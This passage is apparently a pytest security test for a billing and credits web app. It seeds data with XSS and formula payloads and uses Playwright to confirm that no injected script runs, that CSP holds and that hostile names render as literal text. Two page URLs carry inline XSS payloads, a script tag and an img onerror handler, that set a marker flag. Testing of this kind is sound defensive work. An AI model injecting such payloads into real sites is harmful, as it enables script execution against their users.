    db_file = tmp_path_factory.mktemp("hostile") / "hostile.sqlite3"
    application = create_app(
        {
            "DATABASE_URL": f"sqlite:///{db_file}",
            "SECRET_KEY": "h",
            "LOGIN_RATE_LIMIT": "1000 per minute",
        }
    )
    today = utcnow()
    with application.app_context():
        db.create_all()
        partner = accounts.create_partner("Acme", "acme", 100_000)
        auth.create_user(partner, "ops@acme.test", PASSWORD)
        orgs = {}
        for i, name in enumerate(NAMES):
            org = accounts.create_organization(
                partner,
                name,
                external_id=name if i < 2 else None,
                tier="paid",
                initial_credits=100,
                metadata={"note": XSS, XSS: FORMULA},
                created_at=today - timedelta(days=60),
            )
            accounts.set_allocation(partner, org, 90, notes=XSS)
            orgs[name] = org.id
        events = [
            {
                "eventId": f"{i}-{d}",
                "organizationId": oid,
                "type": "identification",
                "quantity": 5 + i,
                "occurredAt": (today - timedelta(days=d)).isoformat(),
            }
            for i, oid in enumerate(orgs.values())
            for d in range(1, 40)
        ]
        assert ingest.ingest_batch(partner, list(enumerate(events))).rejected == []
        db.session.remove()
    # Port 0: the kernel picks a free port (werkzeug exits the process on a taken one).
    httpd = make_server("127.0.0.1", 0, application, threaded=True)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_port}", orgs, today.strftime("%Y-%m")
    httpd.shutdown()
    thread.join(timeout=10)


@pytest.mark.browser
@pytest.mark.skipif(
    not __import__("os").path.exists(CHROMIUM),
    reason="no Chromium at /usr/bin/chromium (apt-get install chromium)",
)
def test_no_payload_runs_and_no_policy_breaks_in_a_browser(hostile_server):
    from playwright.sync_api import sync_playwright

    base, orgs, month = hostile_server
    pages = [
        "/",
        "/?preset=last_90_days",
        "/organizations",
        "/credits",
        "/billing",
        "/reports",
        f"/reports/{month}",
        *(f"/organizations/{oid}" for oid in orgs.values()),
        "/organizations?search=%3Cscript%3Ewindow.__pwned%3D9%3C%2Fscript%3E",
        "/?startDate=%22%3E%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D8%3E",
    ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=LAUNCH_ARGS)
        try:
            context = browser.new_context(base_url=base)
            page = context.new_page()
            problems: list[str] = []
            page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
            page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
            page.add_init_script(WATCH)
            page.goto("/login")
            page.fill("#email", "ops@acme.test")
            page.fill("#password", PASSWORD)
            page.click("button[type=submit]")
            page.wait_for_load_state("load")
            drawn_labels: list[str] = []
            for path in pages:
                page.goto(path)
                page.wait_for_load_state("load")
                page.wait_for_function(ALL_DRAWN, timeout=20_000)
                assert page.evaluate("window.__pwned") is None, path
                assert page.evaluate("window.__cspViolations") == [], path
                assert (
                    page.locator("script:not([src]):not([type='application/json'])").count() == 0
                ), path
                drawn_labels += page.eval_on_selector_all(
                    ".js-plotly-plot text", "els => els.map(e => e.textContent)"
                )
            assert problems == []
            # The hostile name was drawn in a chart as the literal text it is (long names
            # are cut to their first characters and an ellipsis).
            assert "</script><script>window…" in drawn_labels
        finally:
            browser.close()
